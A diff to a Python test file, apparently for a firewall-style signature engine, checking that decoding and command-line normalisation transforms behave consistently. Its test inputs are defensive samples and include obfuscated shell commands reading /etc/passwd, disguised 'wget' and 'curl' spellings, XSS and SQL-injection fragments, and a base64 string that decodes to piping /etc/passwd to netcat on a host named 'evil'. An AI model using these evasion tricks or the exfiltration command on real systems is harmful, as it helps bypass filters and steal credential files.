@@ -857,7 +857,10 @@ def test_a_joined_group_gives_each_text_what_its_full_chains_give(bundled_signat
     groups = {
         # Decoded, a text ending with a backslash still ends with it: its separator is not escaped.
         frozenset({"url_decode"}): ["a%0ab", "50% off", "x+y%2Bz", "%26lt%3Bb%26gt%3B", "%2541", "a%5c", "b%5c%5c%5c"],
-        frozenset({"cmdline_normalize"}): ["it's", "c'a't /e\"t\"c/passwd", "{cat,/etc/passwd}", "a^b"],
+        frozenset({"cmdline_normalize"}): [
+            "it's", "c'a't /e\"t\"c/passwd", "{cat,/etc/passwd}", "a^b", "c$u'at'", "w${u}get", "cu$()rl",
+            "a$'x", "y'b",  # an ANSI-C quote left open must not close in the next text
+        ],
         # An expansion left open at a text's end must not close in the next one (a percent sign
         # keeps this group apart from the one above).
         frozenset({"cmdline_normalize", "url_decode"}): [
@@ -869,6 +872,7 @@ def test_a_joined_group_gives_each_text_what_its_full_chains_give(bundled_signat
         frozenset({"js_decode", "css_decode", "path_normalize", "cmdline_normalize"}): [
             "a\\tb", "\\x3cscript\\x3e", "\\u0027 or 1=1", "c:\\windows\\win.ini", "\\\\\\\\x",
             "odd\\", "even\\\\", "three\\\\\\", "\\\\134",  # a final backslash escapes nothing
+            "$'\\x77get'", "$'\\",
         ],
         frozenset({"base64_decode", "html_entity_decode"}): [
             "Y2F0IC9ldGMvcGFzc3dkIHwgbmMgZXZpbCA0NDQ0 &amp; more",
